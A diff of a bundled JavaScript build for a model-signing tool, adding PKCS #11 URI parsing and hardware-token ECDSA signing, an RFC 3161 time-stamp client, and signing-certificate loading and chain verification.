+      if (!/^[0-9A-Fa-f]{2}$/.test(hex)) throw usage("PKCS11_URI_INVALID", `${shown}: attribute ${name2} has a malformed percent escape`);
+      out2.push(parseInt(hex, 16));
+      i += 2;
+    } else {
+      for (const b2 of Buffer.from(c, "utf8")) out2.push(b2);
+    }
+  }
+  return Buffer.from(out2);
+}
+function text(bytes, name2, shown) {
+  try {
+    return new TextDecoder("utf-8", { fatal: true }).decode(bytes);
+  } catch {
+    throw usage("PKCS11_URI_INVALID", `${shown}: attribute ${name2} is not UTF-8 text`);
+  }
+}
+function attributes(part, sep, shown) {
+  if (part === "") return [];
+  return part.split(sep).map((a) => {
+    const eq = a.indexOf("=");
+    if (eq <= 0) throw usage("PKCS11_URI_INVALID", `${shown}: ${/pin/i.test(a) ? "an attribute" : `"${a}"`} is not an attribute=value pair`);
+    const name2 = a.slice(0, eq).toLowerCase();
+    return [name2, decode(a.slice(eq + 1), name2, shown)];
+  });
+}
+function parsePkcs11Uri(uri) {
+  const shown = redactPkcs11Uri(uri);
+  if (!isPkcs11Uri(uri)) throw usage("PKCS11_URI_INVALID", `${shown} is not a PKCS #11 URI (pkcs11:...)`);
+  if (uri.length > 4096) throw usage("PKCS11_URI_INVALID", "the PKCS #11 URI is longer than 4096 characters");
+  const rest = uri.slice("pkcs11:".length);
+  const q2 = rest.indexOf("?");
+  const pathPart = q2 < 0 ? rest : rest.slice(0, q2);
+  const queryPart = q2 < 0 ? "" : rest.slice(q2 + 1);
+  const result = { path: {}, query: {} };
+  const seen = /* @__PURE__ */ new Set();
+  const once2 = (name2) => {
+    if (seen.has(name2)) throw usage("PKCS11_URI_INVALID", `${shown}: attribute ${name2} is given twice`);
+    seen.add(name2);
+  };
+  for (const [name2, value] of attributes(pathPart, ";", shown)) {
+    if (!PATH_ATTRIBUTES.includes(name2)) {
+      throw usage("PKCS11_URI_UNSUPPORTED", `${shown}: path attribute ${name2} is not supported (known: ${PATH_ATTRIBUTES.join(", ")})`);
+    }
+    once2(name2);
+    if (name2 === "id") result.id = value;
+    else result.path[name2] = text(value, name2, shown);
+  }
+  for (const [name2, value] of attributes(queryPart, "&", shown)) {
+    if (!QUERY_ATTRIBUTES.includes(name2)) {
+      throw usage("PKCS11_URI_UNSUPPORTED", `${shown}: query attribute ${name2} is not supported (known: ${QUERY_ATTRIBUTES.join(", ")})`);
+    }
+    once2(name2);
+    result.query[name2] = text(value, name2, shown);
+  }
+  checkValues(result, shown);
+  return result;
+}
+function checkValues(u2, shown) {
+  const bad5 = (msg) => usage("PKCS11_URI_INVALID", `${shown}: ${msg}`);
+  if (u2.query["pin-value"] !== void 0 && u2.query["pin-source"] !== void 0) throw bad5("pin-value and pin-source exclude each other");
+  const slot = u2.path["slot-id"];
+  if (slot !== void 0 && (!/^\d{1,10}$/.test(slot) || Number(slot) > 4294967295)) throw bad5(`slot-id must be a decimal number below 2^32 (got "${slot}")`);
+  const lv = u2.path["library-version"];
+  if (lv !== void 0 && !/^\d{1,3}(\.\d{1,3})?$/.test(lv)) throw bad5(`library-version must be MAJOR or MAJOR.MINOR (got "${lv}")`);
+  const type = u2.path.type;
+  if (type !== void 0 && type !== "private") throw bad5(`type=${type} names no private key (sign needs type=private, or no type)`);
+  const src = u2.query["pin-source"];
+  if (src !== void 0) {
+    if (src.startsWith("|")) throw usage("PKCS11_URI_UNSUPPORTED", `${shown}: pin-source naming a program is not supported: give a file path or file: URI`);
+    if (/^[a-z][a-z0-9+.-]*:/i.test(src) && !/^file:/i.test(src)) throw usage("PKCS11_URI_UNSUPPORTED", `${shown}: pin-source ${src} is not supported: give a file path or file: URI`);
+    if (!/^(file:)?\//i.test(src)) throw bad5(`pin-source must be an absolute path or file: URI (got "${src}")`);
+  }
+  const mp = u2.query["module-path"];
+  if (mp !== void 0 && !mp.startsWith("/")) throw bad5(`module-path must be an absolute path (got "${mp}")`);
+  if (u2.path.object === void 0 && u2.id === void 0) throw bad5("the URI names no key: add object=LABEL or id=%XX");
+}
+function parseLibraryVersion(v2) {
+  const [major, minor] = v2.split(".");
+  return { major: Number(major), minor: Number(minor ?? "0") };
+}
+var PATH_ATTRIBUTES, QUERY_ATTRIBUTES;
+var init_pkcs11_uri = __esm({
+  "src/keys/pkcs11-uri.ts"() {
+    "use strict";
+    init_errors();
+    PATH_ATTRIBUTES = [
+      "token",
+      "manufacturer",
+      "serial",
+      "model",
+      "library-manufacturer",
+      "library-description",
+      "library-version",
+      "object",
+      "type",
+      "id",
+      "slot-description",
+      "slot-manufacturer",
+      "slot-id"
+    ];
+    QUERY_ATTRIBUTES = ["pin-value", "pin-source", "module-name", "module-path"];
+  }
+});
+
+// src/keys/signer.ts
+function keyObjectSigner(key, publicKey, label) {
+  return { publicKey, label, sign: async (data) => signBytes(key, data), close: async () => void 0 };
+}
+var init_signer = __esm({
+  "src/keys/signer.ts"() {
+    "use strict";
+    init_algorithms();
+  }
+});
+
+// src/keys/pkcs11.ts
+var pkcs11_exports = {};
+__export(pkcs11_exports, {
+  MODULE_DIRS: () => MODULE_DIRS,
+  ecPublicKey: () => ecPublicKey,
+  openPkcs11Key: () => openPkcs11Key,
+  p1363ToDer: () => p1363ToDer,
+  resolveModule: () => resolveModule,
+  uriPin: () => uriPin
+});
+import { createHash as createHash6, createPublicKey as createPublicKey2, X509Certificate as X509Certificate3 } from "node:crypto";
+import { readdirSync as readdirSync2 } from "node:fs";
+import { createRequire as createRequire6 } from "node:module";
+import path18 from "node:path";
+function loadBinding() {
+  try {
+    return createRequire6(import.meta.url)("pkcs11js");
+  } catch (e) {
+    throw usage("PKCS11_UNAVAILABLE", `PKCS #11 keys need the pkcs11js package, which is not installed or did not build (${e.message.split("\n")[0]})`);
+  }
+}
+function resolveModule(uri, opts) {
+  const mp = uri.query["module-path"];
+  const name2 = uri.query["module-name"];
+  const fromOption = opts.module;
+  const find = (dirs, n) => {
+    const want = n.toLowerCase();
+    for (const dir of dirs) {
+      let entries;
+      try {
+        entries = readdirSync2(dir);
+      } catch {
+        continue;
+      }
+      const hit = entries.find((f2) => {
+        const l = f2.toLowerCase();
+        return l === want || l.startsWith(`${want}.`) || l.startsWith(`lib${want}.`);
+      });
+      if (hit) return path18.join(dir, hit);
+    }
+    throw usage("PKCS11_MODULE_NOT_FOUND", `no PKCS #11 module "${n}" in ${dirs.join(", ")}`);
+  };
+  let fromUri;
+  if (mp !== void 0) fromUri = name2 !== void 0 && !/\.(so|dylib|dll)(\.\d+)*$/.test(mp) ? find([mp], name2) : mp;
+  else if (name2 !== void 0) fromUri = find(opts.moduleDirs ?? MODULE_DIRS, name2);
+  if (fromUri !== void 0 && fromOption !== void 0 && path18.resolve(fromUri) !== path18.resolve(fromOption)) {
+    throw usage("BAD_OPTION", `the PKCS #11 URI names module ${fromUri}, but --pkcs11-module (or MODELSIGN_PKCS11_MODULE) names ${fromOption}`);
+  }
+  const m2 = fromUri ?? fromOption;
+  if (m2 === void 0) throw usage("PKCS11_MODULE_NOT_FOUND", "no PKCS #11 module: give module-path=/path/lib.so in the URI, --pkcs11-module, or MODELSIGN_PKCS11_MODULE");
+  return m2;
+}
+async function uriPin(uri) {
+  if (uri.query["pin-value"] !== void 0) return uri.query["pin-value"];
+  const src = uri.query["pin-source"];
+  if (src === void 0) return void 0;
+  const file = /^file:/i.test(src) ? src.replace(/^file:(\/\/[^/]*)?/i, "") : src;
+  const text2 = (await readUserFile(file, MAX_PIN_FILE, "PIN_UNREADABLE", "pin-source")).toString("utf8");
+  return text2.replace(/\r?\n$/, "");
+}
+function p1363ToDer(sig) {
+  if (sig.length === 0 || sig.length % 2 !== 0) throw new Error(`ECDSA signature of odd length ${sig.length}`);
+  const int = (b2) => {
+    let i = 0;
+    while (i < b2.length - 1 && b2[i] === 0) i++;
+    let v2 = b2.subarray(i);
+    if (v2[0] & 128) v2 = Buffer.concat([Buffer.from([0]), v2]);
+    return Buffer.concat([Buffer.from([2, v2.length]), v2]);
+  };
+  const body = Buffer.concat([int(sig.subarray(0, sig.length / 2)), int(sig.subarray(sig.length / 2))]);
+  const len = body.length < 128 ? Buffer.from([body.length]) : Buffer.from([129, body.length]);
+  return Buffer.concat([Buffer.from([48]), len, body]);
+}
+function ecPublicKey(params, point) {
+  let q2 = point;
+  if (q2[0] === 4 && q2.length > 2) {
+    const len = q2[1] < 128 ? q2[1] : q2[1] === 129 ? q2[2] : -1;
+    const hdr = q2[1] < 128 ? 2 : 3;
+    if (len === q2.length - hdr && q2[hdr] === 4) q2 = q2.subarray(hdr);
+  }
+  const algo = Buffer.concat([Buffer.from("06072a8648ce3d0201", "hex"), params]);
+  const algSeq = Buffer.concat([Buffer.from([48, algo.length]), algo]);
+  const bits = Buffer.concat([Buffer.from([0]), q2]);
+  const bitStr = Buffer.concat([Buffer.from([3]), derLen(bits.length), bits]);
+  const body = Buffer.concat([algSeq, bitStr]);
+  return createPublicKey2({ key: Buffer.concat([Buffer.from([48]), derLen(body.length), body]), format: "der", type: "spki" });
+}
+function derLen(n) {
+  return n < 128 ? Buffer.from([n]) : n < 256 ? Buffer.from([129, n]) : Buffer.from([130, n >> 8, n & 255]);
+}
+function tokenError(e, what, shown) {
+  const msg = (e instanceof Error ? e.message : String(e)).split("\n")[0];
+  const code = e.code;
+  if (code === 160) return usage("BAD_PIN", `wrong PIN for the token of ${shown}`);
+  if (code === 164) return usage("BAD_PIN", `the PIN of the token of ${shown} is locked`);
+  return usage("PKCS11_FAILED", `${what} failed for ${shown}: ${msg}`);
+}
+function matchingSlots(p11, uri) {
+  const lib = p11.C_GetInfo();
+  const want = uri.path;
+  if (want["library-manufacturer"] !== void 0 && trim(lib.manufacturerID) !== want["library-manufacturer"]) return [];
+  if (want["library-description"] !== void 0 && trim(lib.libraryDescription) !== want["library-description"]) return [];
+  if (want["library-version"] !== void 0) {
+    const v2 = parseLibraryVersion(want["library-version"]);
+    if (lib.libraryVersion.major !== v2.major || lib.libraryVersion.minor !== v2.minor) return [];
+  }
+  const out2 = [];
+  for (const slot of p11.C_GetSlotList(true)) {
+    if (want["slot-id"] !== void 0 && slot.readUIntLE(0, Math.min(slot.length, 6)) !== Number(want["slot-id"])) continue;
+    const si2 = p11.C_GetSlotInfo(slot);
+    if (want["slot-description"] !== void 0 && trim(si2.slotDescription) !== want["slot-description"]) continue;
+    if (want["slot-manufacturer"] !== void 0 && trim(si2.manufacturerID) !== want["slot-manufacturer"]) continue;
+    const info2 = p11.C_GetTokenInfo(slot);
+    if ((info2.flags & CKF_TOKEN_INITIALIZED) === 0) continue;
+    if (want.token !== void 0 && trim(info2.label) !== want.token) continue;
+    if (want.manufacturer !== void 0 && trim(info2.manufacturerID) !== want.manufacturer) continue;
+    if (want.model !== void 0 && trim(info2.model) !== want.model) continue;
+    if (want.serial !== void 0 && trim(info2.serialNumber) !== want.serial) continue;
+    out2.push({ slot, info: info2 });
+  }
+  return out2;
+}
+function findObjects(p11, session, template) {
+  p11.C_FindObjectsInit(session, template);
+  try {
+    return p11.C_FindObjects(session, 2);
+  } finally {
+    p11.C_FindObjectsFinal(session);
+  }
+}
+async function openPkcs11Key(uriText, opts = {}) {
+  const uri = parsePkcs11Uri(uriText);
+  const shown = redactPkcs11Uri(uriText);
+  const modulePath = resolveModule(uri, opts);
+  const pkcs11js = loadBinding();
+  const p11 = new pkcs11js.PKCS11();
+  try {
+    p11.load(modulePath);
+  } catch (e) {
+    throw usage("PKCS11_MODULE_NOT_FOUND", `cannot load PKCS #11 module ${modulePath}: ${e.message.split("\n")[0]}`);
+  }
+  let session;
+  let closed = false;
+  const close = async () => {
+    if (closed) return;
+    closed = true;
+    try {
+      if (session) p11.C_CloseSession(session);
+    } catch {
+    }
+    try {
+      p11.C_Finalize();
+    } catch {
+    }
+  };
+  try {
+    try {
+      p11.C_Initialize();
+    } catch (e) {
+      throw tokenError(e, "C_Initialize", shown);
+    }
+    const slots = matchingSlots(p11, uri);
+    if (slots.length === 0) throw usage("PKCS11_TOKEN_NOT_FOUND", `no token matches ${shown} (module ${modulePath})`);
+    if (slots.length > 1) throw usage("PKCS11_TOKEN_AMBIGUOUS", `${slots.length} tokens match ${shown} (${slots.map((s4) => `"${trim(s4.info.label)}"`).join(", ")}): add token=LABEL or slot-id=N`);
+    const { slot, info: info2 } = slots[0];
+    session = p11.C_OpenSession(slot, pkcs11js.CKF_SERIAL_SESSION);
+    if (info2.flags & pkcs11js.CKF_LOGIN_REQUIRED) {
+      const pin = await uriPin(uri) ?? (opts.pin ? await opts.pin() : void 0);
+      if (pin === void 0) throw usage("NO_PIN", `the token of ${shown} needs a PIN: set MODELSIGN_PKCS11_PIN, run on a terminal, or add pin-source to the URI`);
+      try {
+        p11.C_Login(session, pkcs11js.CKU_USER, pin);
+      } catch (e) {
+        if (e.code !== CKR_USER_ALREADY_LOGGED_IN) throw tokenError(e, "C_Login", shown);
+      }
+    }
+    const ident = [];
+    if (uri.path.object !== void 0) ident.push({ type: pkcs11js.CKA_LABEL, value: uri.path.object });
+    if (uri.id !== void 0) ident.push({ type: pkcs11js.CKA_ID, value: uri.id });
+    const keys = findObjects(p11, session, [{ type: pkcs11js.CKA_CLASS, value: pkcs11js.CKO_PRIVATE_KEY }, ...ident]);
+    if (keys.length === 0) throw usage("PKCS11_KEY_NOT_FOUND", `no private key matches ${shown} on token "${trim(info2.label)}"`);
+    if (keys.length > 1) throw usage("PKCS11_KEY_AMBIGUOUS", `several private keys match ${shown}: add id=%XX or object=LABEL`);
+    const key = keys[0];
+    const [kt2, kid, klabel] = p11.C_GetAttributeValue(session, key, [{ type: pkcs11js.CKA_KEY_TYPE }, { type: pkcs11js.CKA_ID }, { type: pkcs11js.CKA_LABEL }]);
+    const keyType = kt2.value.readUIntLE(0, Math.min(kt2.value.length, 6));
+    if (keyType !== pkcs11js.CKK_EC) throw usage("KEY_UNSUPPORTED", `the key of ${shown} is not an EC key (CKA_KEY_TYPE ${keyType}); PKCS #11 signing takes ECDSA P-256, P-384 or P-521`);
+    const same = [
+      ...kid.value.length > 0 ? [{ type: pkcs11js.CKA_ID, value: kid.value }] : [],
+      ...klabel.value.length > 0 ? [{ type: pkcs11js.CKA_LABEL, value: klabel.value }] : []
+    ];
+    const publicKey = tokenPublicKey(p11, pkcs11js, session, same) ?? opts.publicKey;
+    if (!publicKey) throw usage("PKCS11_KEY_NOT_FOUND", `the token holds no public key or certificate for ${shown}: give --signing-certificate`);
+    const type = keyTypeOf(publicKey);
+    const hash = type === "ecdsa-p256" ? "sha256" : type === "ecdsa-p384" ? "sha384" : type === "ecdsa-p521" ? "sha512" : void 0;
+    if (!hash) throw usage("KEY_UNSUPPORTED", `the key of ${shown} is on a curve modelsign does not sign with (P-256, P-384, P-521)`);
+    const s3 = session;
+    return {
+      publicKey,
+      label: `PKCS #11 key ${shown}`,
+      async sign(data) {
+        const digest = createHash6(hash).update(data).digest();
+        try {
+          p11.C_SignInit(s3, { mechanism: pkcs11js.CKM_ECDSA }, key);
+          return p1363ToDer(p11.C_Sign(s3, digest, Buffer.alloc(132)));
+        } catch (e) {
+          throw tokenError(e, "C_Sign", shown);
+        }
+      },
+      close
+    };
+  } catch (e) {
+    await close();
+    if (e instanceof ModelsignError) throw e;
+    throw tokenError(e, "PKCS #11", shown);
+  }
+}
+function tokenPublicKey(p11, pkcs11js, session, same) {
+  if (same.length === 0) return void 0;
+  const pubs = findObjects(p11, session, [{ type: pkcs11js.CKA_CLASS, value: pkcs11js.CKO_PUBLIC_KEY }, ...same]);
+  if (pubs.length === 1) {
+    const [params, point] = p11.C_GetAttributeValue(session, pubs[0], [{ type: pkcs11js.CKA_EC_PARAMS }, { type: pkcs11js.CKA_EC_POINT }]);
+    return ecPublicKey(params.value, point.value);
+  }
+  const certs = findObjects(p11, session, [{ type: pkcs11js.CKA_CLASS, value: pkcs11js.CKO_CERTIFICATE }, ...same]);
+  if (certs.length === 1) {
+    const [der2] = p11.C_GetAttributeValue(session, certs[0], [{ type: pkcs11js.CKA_VALUE }]);
+    return new X509Certificate3(der2.value).publicKey;
+  }
+  return void 0;
+}
+var MODULE_DIRS, MAX_PIN_FILE, CKR_USER_ALREADY_LOGGED_IN, CKF_TOKEN_INITIALIZED, trim;
+var init_pkcs11 = __esm({
+  "src/keys/pkcs11.ts"() {
+    "use strict";
+    init_errors();
+    init_read_file();
+    init_algorithms();
+    init_pkcs11_uri();
+    MODULE_DIRS = ["/usr/lib/x86_64-linux-gnu/pkcs11", "/usr/lib/aarch64-linux-gnu/pkcs11", "/usr/lib64/pkcs11", "/usr/lib/pkcs11", "/usr/lib/softhsm", "/usr/lib64/softhsm"];
+    MAX_PIN_FILE = 4096;
+    CKR_USER_ALREADY_LOGGED_IN = 256;
+    CKF_TOKEN_INITIALIZED = 1024;
+    trim = (s3) => s3.replace(/[ \0]+$/, "");
+  }
+});
+
+// src/sign/timestamp.ts
+var timestamp_exports2 = {};
+__export(timestamp_exports2, {
+  checkReply: () => checkReply,
+  newNonce: () => newNonce,
+  timestampClient: () => timestampClient,
+  timestampRequest: () => timestampRequest
+});
+import { createHash as createHash7, randomBytes as randomBytes3 } from "node:crypto";
+function derLength(n) {
+  if (n < 128) return Buffer.from([n]);
+  const bytes = [];
+  for (let v2 = n; v2 > 0; v2 = Math.floor(v2 / 256)) bytes.unshift(v2 & 255);
+  return Buffer.from([128 | bytes.length, ...bytes]);
+}
+function der(tag, content) {
+  return Buffer.concat([Buffer.from([tag]), derLength(content.length), content]);
+}
+function derUnsigned(bytes) {
+  let b2 = bytes;
+  while (b2.length > 1 && b2[0] === 0 && (b2[1] & 128) === 0) b2 = b2.subarray(1);
+  return der(2, (b2[0] & 128) !== 0 ? Buffer.concat([Buffer.from([0]), b2]) : b2);
+}
+function timestampRequest(digest, nonce) {
+  const imprint = der(48, Buffer.concat([SHA256_ALGORITHM_ID, der(4, digest)]));
+  const nonceBytes = Buffer.from(nonce.toString(16).padStart(14, "0"), "hex");
+  return der(48, Buffer.concat([der(2, Buffer.from([1])), imprint, derUnsigned(nonceBytes), der(1, Buffer.from([255]))]));
+}
+function newNonce() {
+  const b2 = randomBytes3(7);
+  b2[0] &= 15;
+  return BigInt(`0x${b2.toString("hex")}`);
+}
+function replyNonce(tstInfo) {
+  const rest = tstInfo.root.subs.slice(5);
+  const n = rest.find((s3) => s3.tag.isUniversal() && s3.tag.isInteger());
+  return n?.toInteger();
+}
+async function checkReply(response, digest, nonce) {
+  const { RFC3161Timestamp } = await Promise.resolve().then(() => __toESM(require_dist2(), 1));
+  let ts2;
+  try {
+    ts2 = RFC3161Timestamp.parse(response);
+  } catch (e) {
+    throw new Error(`the reply is not an RFC 3161 time-stamp response (${e.message})`);
+  }
+  let status;
+  let info2;
+  try {
+    status = ts2.status;
+    info2 = ts2.tstInfo;
+  } catch (e) {
+    throw new Error(`the reply holds no time-stamp token (${e.message})`);
+  }
+  if (status !== 0n && status !== 1n) throw new Error(`the TSA refused the request (PKIStatus ${status})`);
+  if (info2.messageImprintHashAlgorithm !== "sha256") throw new Error("the time-stamp is for another message (its imprint is not SHA-256)");
+  if (!info2.messageImprintHashedMessage.equals(digest)) throw new Error("the time-stamp is for another message (message imprint differs)");
+  if (replyNonce(info2) !== nonce) throw new Error("the time-stamp does not answer this request (nonce differs)");
+  return info2.genTime;
+}
+function checkUrl(u2) {
+  let parsed;
+  try {
+    parsed = new URL(u2);
+  } catch {
+    throw usage("BAD_OPTION", `--tsa-url is not a URL: "${u2}"`);
+  }
+  if (parsed.protocol !== "https:" && parsed.protocol !== "http:") throw usage("BAD_OPTION", `--tsa-url must be an http(s) URL: "${u2}"`);
+  if (parsed.username || parsed.password) throw usage("BAD_OPTION", "--tsa-url must not carry a user name or password");
+  return u2;
+}
+async function boundedBody(res, max) {
+  const declared = Number(res.headers.get("content-length") ?? "0");
+  if (declared > max) throw new Error(`the reply is larger than ${max} bytes`);
+  const reader = res.body?.getReader();
+  if (!reader) return Buffer.alloc(0);
+  const chunks = [];
+  let size = 0;
+  for (; ; ) {
+    const { done, value } = await reader.read();
+    if (done) break;
+    size += value.length;
+    if (size > max) {
+      await reader.cancel();
+      throw new Error(`the reply is larger than ${max} bytes`);
+    }
+    chunks.push(Buffer.from(value));
+  }
+  return Buffer.concat(chunks);
+}
+function timestampClient(url, opts = {}) {
+  const target = checkUrl(url);
+  return async (signature) => {
+    const digest = createHash7("sha256").update(signature).digest();
+    const nonce = newNonce();
+    const fail = (why2, cause) => {
+      throw new ModelsignError("TIMESTAMP_FAILED", `time-stamping failed (${target}): ${why2}`, { kind: "reject", cause });
+    };
+    let res;
+    try {
+      res = await fetch(target, {
+        method: "POST",
+        headers: { "content-type": "application/timestamp-query", accept: "application/timestamp-reply" },
+        body: timestampRequest(digest, nonce),
+        signal: AbortSignal.timeout(opts.timeoutMs ?? 3e4),
+        redirect: "error"
+      });
+    } catch (e) {
+      const cause = e instanceof Error && e.cause instanceof Error ? `: ${e.cause.message}` : "";
+      return fail(`${e instanceof Error ? e.message : String(e)}${cause}`, e);
+    }
+    let body;
+    try {
+      body = await boundedBody(res, MAX_REPLY_BYTES);
+    } catch (e) {
+      return fail(e.message, e);
+    }
+    if (!res.ok) return fail(`HTTP ${res.status}${body.length > 0 && body.length < 200 && /^[\x20-\x7e]*$/.test(body.toString("latin1")) ? ` (${body.toString("latin1")})` : ""}`);
+    try {
+      return { response: body, time: await checkReply(body, digest, nonce) };
+    } catch (e) {
+      return fail(e.message, e);
+    }
+  };
+}
+var MAX_REPLY_BYTES, SHA256_ALGORITHM_ID;
+var init_timestamp2 = __esm({
+  "src/sign/timestamp.ts"() {
+    "use strict";
+    init_errors();
+    MAX_REPLY_BYTES = 1024 * 1024;
+    SHA256_ALGORITHM_ID = Buffer.from("300d06096086480165030402010500", "hex");
+  }
+});
+
+// src/sign/certificate.ts
+var certificate_exports = {};
+__export(certificate_exports, {
+  loadSigningCertificates: () => loadSigningCertificates
+});
+import { createHash as createHash8, X509Certificate as X509Certificate4 } from "node:crypto";
+async function certificatesIn(file, what) {
+  const buf = await readUserFile(file, MAX_CERT_FILE, "CERT_UNREADABLE", what);
+  const ders = findPemBlocks(buf.toString("utf8")).filter((b2) => b2.type === "CERTIFICATE").map((b2) => b2.der);
+  if (ders.length === 0) throw usage("CERT_UNREADABLE", `${file} holds no PEM certificate`);
+  return ders;
+}
+async function loadSigningCertificates(leafFile, chainFiles, publicKey, keyLabel) {
+  const leafDer = (await certificatesIn(leafFile, "signing certificate"))[0];
+  let leaf;
+  try {
+    leaf = new X509Certificate4(leafDer);
+  } catch (e) {
+    throw usage("CERT_UNREADABLE", `${leafFile} holds a malformed certificate: ${e.message}`);
+  }
+  const ours = publicKey.export({ type: "spki", format: "der" });
+  if (!leaf.publicKey.export({ type: "spki", format: "der" }).equals(ours)) {
+    throw usage("CERT_KEY_MISMATCH", `${leafFile} certifies another public key (sha256:${spkiHint(leaf.publicKey)}\u2026) than that of ${keyLabel} (sha256:${spkiHint(publicKey)}\u2026)`);
+  }
+  const chain = (await Promise.all(chainFiles.map((f2) => certificatesIn(f2, "certificate chain file")))).flat();
+  const certificates = [leafDer, ...chain];
+  if (certificates.length > MAX_CERTIFICATES) throw usage("BAD_OPTION", `the signing certificate and its chain hold ${certificates.length} certificates; verifiers read at most ${MAX_CERTIFICATES}`);
+  const { certificateChainTrust: certificateChainTrust2 } = await Promise.resolve().then(() => (init_trust_cert(), trust_cert_exports));
+  const trust = await certificateChainTrust2(chainFiles.length > 0 ? [...chainFiles] : [leafFile]);
+  return {
+    leaf,
+    certificates,
+    async check(bundle, pae2, time) {
+      try {
+        await trust.verify(parseBundle(Buffer.from(JSON.stringify(bundle))), pae2, time ? { signedTimes: [time] } : {});
+      } catch (e) {
+        if (e instanceof ModelsignError && e.kind === "reject") throw usage(e.code, `the certificate signature would not verify: ${e.message}`);
+        throw e;
+      }
+    }
+  };
+}
+var MAX_CERT_FILE, MAX_CERTIFICATES, spkiHint;
+var init_certificate = __esm({
+  "src/sign/certificate.ts"() {
+    "use strict";
+    init_errors();
+    init_pem();
+    init_read_file();
+    init_bundle();
+    MAX_CERT_FILE = 4 * 1024 * 1024;
+    MAX_CERTIFICATES = 16;
+    spkiHint = (k2) => createHash8("sha256").update(k2.export({ type: "spki", format: "der" })).digest("hex").slice(0, 16);
+  }
+});
+
+// src/sign/method.ts
+var method_exports = {};
+__export(method_exports, {
+  methodSigner: () => methodSigner,
+  prepareKeySigner: () => prepareKeySigner
+});
+import { createPublicKey as createPublicKey3 } from "node:crypto";
+async function openKey(o) {
+  if (typeof o.key !== "string") return keyObjectSigner(o.key, createPublicKey3(o.key), "key");
+  if (isPkcs11Uri(o.key)) {
+    const { openPkcs11Key: openPkcs11Key2 } = await Promise.resolve().then(() => (init_pkcs11(), pkcs11_exports));
+    let publicKey;
+    if (o.signingCertificate) {
+      const { X509Certificate: X509Certificate6 } = await import("node:crypto");
+      const { readRegularFile: readRegularFile2 } = await Promise.resolve().then(() => (init_read_file(), read_file_exports));
+      const { findPemBlocks: findPemBlocks2 } = await Promise.resolve().then(() => (init_pem(), pem_exports));
+      const block = await readRegularFile2(o.signingCertificate, 4 * 1024 * 1024).then(
+        (b2) => findPemBlocks2(b2.toString("utf8")).find((x) => x.type === "CERTIFICATE"),
+        () => void 0
+      );
+      try {
+        publicKey = block ? new X509Certificate6(block.der).publicKey : void 0;
+      } catch {
+        publicKey = void 0;
+      }
+    }
+    return openPkcs11Key2(o.key, { ...o.pkcs11, ...publicKey ? { publicKey } : {} });
+  }
+  const { loadPrivateKey: loadPrivateKey2 } = await Promise.resolve().then(() => (init_keyfile(), keyfile_exports));
+  const key = await loadPrivateKey2(o.key);
+  return keyObjectSigner(key, createPublicKey3(key), `key ${o.key}`);
+}
+function methodSigner(raw, cert, tsa) {
+  return async (payload) => {
+    const bytes = pae(IN_TOTO_PAYLOAD_TYPE, payload);
+    const signature = await raw.sign(bytes);
+    if (!verifyBytes(raw.publicKey, bytes, signature)) throw usage("KEY_MISMATCH", `the signature of ${raw.label} does not verify with its public key${cert ? " (the signing certificate)" : ""}`);
+    const stamp = tsa ? await tsa(signature) : void 0;
+    const bundle = buildBundle({
+      payload,
+      signature,
+      material: cert ? { certificates: cert.certificates } : { publicKeyHint: keyHint(raw.publicKey) },
+      ...stamp ? { timestamps: [stamp.response] } : {}
+    });
+    if (cert) await cert.check(bundle, bytes, stamp?.time);
+    return bundle;
+  };
+}
+async function prepareKeySigner(o) {
+  if (o.certificateChain?.length && !o.signingCertificate) throw usage("BAD_OPTION", "sign --certificate-chain needs --signing-certificate");
+  const { timestampClient: timestampClient2 } = await Promise.resolve().then(() => (init_timestamp2(), timestamp_exports2));
+  const tsa = o.tsaUrl !== void 0 ? timestampClient2(o.tsaUrl) : void 0;
+  const raw = await openKey(o);
+  try {
+    let cert;
+    if (o.signingCertificate) {
+      const { loadSigningCertificates: loadSigningCertificates2 } = await Promise.resolve().then(() => (init_certificate(), certificate_exports));
+      cert = await loadSigningCertificates2(o.signingCertificate, o.certificateChain ?? [], raw.publicKey, raw.label);
+    }
+    const signer = methodSigner(raw, cert, tsa);
+    if (cert || tsa || typeof o.key === "string" && isPkcs11Uri(o.key)) await signer(PROBE);
+    return { signer, close: () => raw.close() };
+  } catch (e) {
+    await raw.close();
+    throw e;
+  }
+}
+var PROBE;
+var init_method = __esm({
+  "src/sign/method.ts"() {
+    "use strict";
+    init_errors();
+    init_algorithms();
+    init_pkcs11_uri();
+    init_signer();
+    init_bundle();
+    init_dsse();
+    PROBE = Buffer.from('{"modelsign":"signing check: this payload is never written"}');
+  }
+});
+
 // src/sign/sign.ts
 var sign_exports = {};
 __export(sign_exports, {
@@ -60113,8 +60891,8 @@ __export(sign_exports, {
   signModel: () => signModel,
   signWithKey: () => signWithKey
 });
-import path18 from "node:path";
-import { createPublicKey as createPublicKey2 } from "node:crypto";
+import path19 from "node:path";
+import { createPublicKey as createPublicKey4 } from "node:crypto";
 function keySigner(key, publicKey) {
   return async (payload) => {
     const signature = signBytes(key, pae(IN_TOTO_PAYLOAD_TYPE, payload));
@@ -60123,12 +60901,19 @@ function keySigner(key, publicKey) {
 }
 async function signWithKey(opts) {
   await checkVersion(opts.version);
-  const { loadPrivateKey: loadPrivateKey2 } = await Promise.resolve().then(() => (init_keyfile(), keyfile_exports));
-  const key = typeof opts.key === "string" ? await loadPrivateKey2(opts.key) : opts.key;
-  return signModel({ ...opts, signer: keySigner(key, createPublicKey2(key)) });
+  if (typeof opts.key !== "string" && !opts.signingCertificate && opts.tsaUrl === void 0) {
+    return signModel({ ...opts, signer: keySigner(opts.key, createPublicKey4(opts.key)) });
+  }
+  const { prepareKeySigner: prepareKeySigner2 } = await Promise.resolve().then(() => (init_method(), method_exports));
+  const prepared = await prepareKeySigner2(opts);
+  try {
+    return await signModel({ ...opts, signer: prepared.signer });
+  } finally {
+    await prepared.close();
+  }
 }
 function defaultModelName(model) {
-  const base2 = path18.basename(path18.resolve(model));
+  const base2 = path19.basename(path19.resolve(model));
   return base2.replace(/\.(tar\.gz|tgz|tar)$/i, "") || "model";
 }
 async function checkVersion(version) {
@@ -60193,7 +60978,7 @@ var init_sign = __esm({
 
 // src/scan/scan-path.ts
 import { lstat as lstat5 } from "node:fs/promises";
-import path19 from "node:path";
+import path20 from "node:path";
 function summarise(target, files, extra, failOn = "low", refused = 0) {
   const findings = [...extra, ...files.flatMap((f2) => f2.findings)].sort((a, b2) => severityRank(b2.severity) - severityRank(a.severity));
   const clean5 = !findings.some((f2) => severityRank(f2.severity) >= severityRank(failOn));
@@ -60222,7 +61007,7 @@ async function scanPath(target, opts = {}) {
     const r = await scanTar(target, limits);
     return summarise(target, r.reports, r.findings, opts.failOn, r.refused);
